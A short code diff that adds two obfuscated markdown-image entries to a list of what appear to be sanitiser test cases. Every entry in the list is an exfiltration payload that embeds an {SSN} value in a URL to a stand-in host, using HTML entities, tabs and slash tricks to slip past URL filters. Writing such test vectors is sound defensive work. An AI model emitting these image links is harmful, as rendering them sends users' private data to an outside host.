@@ -29,6 +29,8 @@ ALL = Restoration(
         f"![](/\\their.host/{SSN})",
         f"![](https:&#47;&#47;their.host/{SSN})",
         f"![](&sol;&sol;their.host/{SSN})",
+        f"![](&#104;ttps:their.host/{SSN})",
+        f"![](ht&Tab;tps:their.host/{SSN})",
         f"![a](<https://their.host/?q= {SSN}>)",
         f'<img src="https://their.host/?q= > {SSN}">',
         f'<img\nsrc="/\n/their.host/?q=\n{SSN}">',
